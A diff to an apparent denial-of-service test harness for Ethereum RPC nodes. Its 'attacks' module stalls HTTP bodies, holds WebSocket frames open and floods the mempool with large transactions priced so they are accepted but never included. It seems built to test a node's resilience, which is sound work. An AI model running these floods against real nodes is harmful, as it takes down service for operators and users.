@@ -3,6 +3,9 @@ import { privateKeyToAccount } from 'viem/accounts'
 import { ask, head, keepOpen, post, sleep, tcp, webSocket } from './connect.mjs'
 
 const MB = 2 ** 20
+/** One for all: what waits to be sent must not fill the attacker's own memory. */
+const SPACES = Buffer.alloc(9.9 * MB, ' ')
+const LETTERS = Buffer.alloc(MB, 'x')
 const openTcp = (socket) => !socket.destroyed
 const openWs = (socket) => socket.readyState === socket.OPEN
 /** The attacker's own address, where it is not to share that of the honest client. */
@@ -49,13 +52,16 @@ const signer = (target, user) => {
 const nonceOf = async (target, user, tag = 'pending') =>
   Number((await post(target, ask('eth_getTransactionCount', [target.users[user].address, tag])))?.result ?? 0)
 
-/** A transaction of 130 KB that pays one wei per gas: it costs nothing and can never be included. */
+/** What the pool takes although no block will: above the lowest base fee that there can be, far below the one that there is. Wei per gas. */
+const UNPAYABLE = 1_000n
+
+/** A transaction of 130 KB that costs nothing and is not included. */
 const freeTransaction = (sign, nonce, bytes) =>
   sign({
     to: '0x00000000000000000000000000000000000000aa',
     nonce,
     gas: 6_000_000n,
-    maxFeePerGas: 1n,
+    maxFeePerGas: UNPAYABLE,
     maxPriorityFeePerGas: 1n,
     data: `0x${'00'.repeat(bytes)}`,
   })
@@ -155,7 +161,7 @@ const stalledBodies = (options) => (target) =>
       socket?.resume()
       socket?.write(head(10 * MB))
       // All but the end.
-      socket?.write(Buffer.alloc(9.9 * MB, ' '))
+      socket?.write(SPACES)
       return socket
     },
   })
@@ -205,8 +211,7 @@ export const attacks = {
         isOpen: openWs,
         open: async () => {
           const socket = await webSocket({ ...target, ...other })
-          for (let i = 0; i < 9; i++)
-            if (socket && openWs(socket)) socket.send(Buffer.alloc(MB, 'x'), { fin: false })
+          for (let i = 0; i < 9; i++) if (socket && openWs(socket)) socket.send(LETTERS, { fin: false })
           return socket
         },
       }),
@@ -406,7 +411,7 @@ export const attacks = {
                 to: target.users[user].address,
                 nonce: nonce + i + j,
                 gas: 21_000n,
-                maxFeePerGas: 1n,
+                maxFeePerGas: UNPAYABLE,
                 maxPriorityFeePerGas: 0n,
               }),
             ),
